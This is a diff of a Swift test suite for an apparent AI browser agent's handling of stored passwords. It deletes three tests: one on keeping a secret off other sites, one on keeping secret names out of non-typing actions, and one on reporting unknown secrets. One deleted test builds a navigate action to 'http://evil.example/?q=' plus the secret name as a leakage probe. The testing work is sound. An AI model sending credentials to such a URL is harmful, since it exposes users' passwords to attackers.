@@ -14,7 +14,7 @@ import Testing
 /// Where a secret is typed, and where it is not: on real pages, decided by a scripted model.
 @Suite("Typing a secret", .sharedAgent)
 struct SecretTypingTests {
-    private static let form = """
+    static let form = """
         <title>Sign in</title><label>User <input id=u></label><label>Password <input id=p type=password></label>
         <label>Note <textarea id=t></textarea></label><div id=e contenteditable aria-label=Rich></div>
         <select id=s aria-label=List><option>one<option value=v2>Tr0ub4dor&amp;3 zebra!</select>
@@ -215,81 +215,6 @@ struct SecretTypingTests {
             }
             #expect(run.outcome.isSuccess)
             #expect(run.leaks == [])
-        }
-    }
-
-    @Test("A model that has got to know the value can use it no more freely than the name")
-    func knownValue() async throws {
-        let fixture = try AgentFixture.shared
-        try await PageServer.with { _ in
-            Self.form
-        } body: { site in
-            let pages = SecretPages()
-            let run = try await fixture.run(with: AgentFixture.secrets(for: site.origin), pages: pages) { turn in
-                switch turn.number {
-                case 1: return .navigate("\(site.otherOrigin)/")
-                case 2: return .decide(try turn.input("Note", "It is \(value)"))
-                case 3: return .navigate("\(site.otherOrigin)/?q=Tr0ub4dor%263+zebra%21")
-                case 4: return .navigate("\(site.origin)/")
-                case 5: return .decide(try turn.input("Note", "It is \(value)"))
-                default:
-                    #expect(try await pages.evaluate("document.getElementById('t').value") == "It is \(value)")
-                    return .done()
-                }
-            }
-            #expect(run.messages.contains { $0.hasPrefix("⚠️ input failed: the secret x_password is for") })
-            #expect(run.messages.contains { $0.hasPrefix("⚠️ navigate failed: the secret x_password is not put into") })
-            #expect(!site.targets.contains { $0.contains("zebra") })
-            // What the model itself has said came to it from elsewhere; the log has not got it.
-            #expect(SecretRun.forms.filter(run.messages.joined().contains) == [])
-        }
-    }
-
-    @Test(
-        "Where nothing is typed a name stays a name, and the model is told",
-        arguments: [
-            ("navigate", "url", "http://evil.example/?q="), ("search", "query", ""), ("extract", "query", "what is "),
-            ("find_text", "text", ""),
-        ]
-    )
-    func notTyped(_ action: String, _ parameter: String, _ before: String) async throws {
-        let fixture = try AgentFixture.shared
-        try await PageServer.with { _ in
-            Self.form
-        } body: { site in
-            let run = try await fixture.run(with: AgentFixture.secrets(for: site.origin)) { turn in
-                switch turn.number {
-                case 1: return .navigate("\(site.origin)/")
-                case 2: return .decide(.object([action: [parameter: .string(before + name)]]))
-                default:
-                    #expect(turn.text.contains("the secret x_password is not put into \(action)"))
-                    return .done()
-                }
-            }
-            #expect(run.leaks == [])
-            #expect(site.targets.allSatisfy { $0 == "/" || $0 == "/favicon.ico" })
-        }
-    }
-
-    @Test("A name that there is not is told with those that there are; scripts are not run")
-    func unknown() async throws {
-        let fixture = try AgentFixture.shared
-        try await PageServer.with { _ in
-            Self.form
-        } body: { site in
-            let run = try await fixture.run(with: AgentFixture.secrets(for: site.origin)) { turn in
-                switch turn.number {
-                case 1: return .navigate("\(site.origin)/")
-                case 2: return .decide(try turn.input("Password", "<secret>x_pin</secret>"))
-                case 3:
-                    #expect(turn.text.contains("there is no secret x_pin; there are x_password"))
-                    return .decide(["evaluate": ["code": "document.title"]])
-                default:
-                    #expect(turn.messages.last?.text.contains("not valid") == true, "\(turn.text)")
-                    return .done()
-                }
-            }
-            #expect(run.outcome.isSuccess, "\(run.messages)")
         }
     }
 
